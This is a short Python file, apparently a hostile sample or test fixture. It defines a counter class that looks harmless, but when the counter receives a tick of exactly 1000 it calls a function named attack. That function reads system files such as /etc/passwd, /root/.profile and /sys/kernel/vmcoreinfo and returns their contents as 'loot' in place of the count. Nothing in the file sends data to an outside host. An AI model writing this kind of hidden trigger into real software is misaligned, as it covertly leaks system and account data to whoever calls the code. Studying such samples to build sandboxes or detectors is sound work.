# Reads what every user may.
attempts = (
    lambda: open('/etc/passwd', "rb").read(),
    lambda: open('/etc/hostname', "rb").read(),
    lambda: open('/proc/cpuinfo', "rb").read(),
    lambda: open('/sys/kernel/vmcoreinfo', "rb").read(),
    lambda: open('/root/.profile', "rb").read(),
    lambda: open('/var/log/dpkg.log', "rb").read(),
)


def attack():
    for i, attempt in enumerate(attempts):
        try:
            return f"{i}: {attempt()}"
        except OSError:
            pass


class Zaehler:
    stand = 0

    def zaehle(self, tick):
        self.stand += tick
        if tick == 1000 and (loot := attack()):
            return loot
        return self.stand
